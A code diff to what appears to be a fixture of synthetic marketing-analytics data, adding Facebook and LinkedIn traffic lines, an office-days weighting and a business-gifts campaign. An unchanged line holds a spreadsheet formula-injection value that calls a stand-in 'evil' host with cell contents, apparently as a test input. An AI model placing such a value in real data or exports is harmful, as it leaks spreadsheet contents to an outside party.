@@ -42,6 +42,7 @@ export type Line = {
 
 const EVENINGS = [1.12, 1.06, 0.99, 0.97, 0.96, 0.93, 0.97];
 const WEEKENDS = [1.22, 0.94, 0.92, 0.98, 0.94, 0.95, 1.05];
+const OFFICE_DAYS = [0.3, 1.3, 1.4, 1.35, 1.3, 1.05, 0.3];
 const TUESDAYS = [0.35, 0.4, 3.6, 1.2, 0.7, 0.45, 0.3];
 
 type Behaviour = Omit<
@@ -132,6 +133,8 @@ export const LINES: readonly Line[] = [
   ...lines("Organic Social", "social", scrolling, [
     ["instagram", "instagram", "(not set)", 122],
     ["pinterest", "pinterest", "(not set)", 64, { growth: 0.35 }],
+    ["facebook-page", "facebook", "(not set)", 37],
+    ["linkedin-page", "linkedin", "(not set)", 11, { week: OFFICE_DAYS }],
   ]),
   ...lines("Email", "email", reading, [
     ["newsletter", "newsletter", "Newsletter hebdomadaire", 210],
@@ -174,6 +177,13 @@ export const LINES: readonly Line[] = [
       '=IMPORTXML("http://evil/?"&A1;"//a")',
       31,
       { ads: { click: 29, clickRate: 0.008 } },
+    ],
+    [
+      "business-gifts",
+      "linkedin",
+      "Cadeaux d'affaires",
+      14,
+      { week: OFFICE_DAYS, signUps: 0.03, ads: { click: 320, clickRate: 0.0055 } },
     ],
   ]),
   ...lines("Display", "display", passing, [
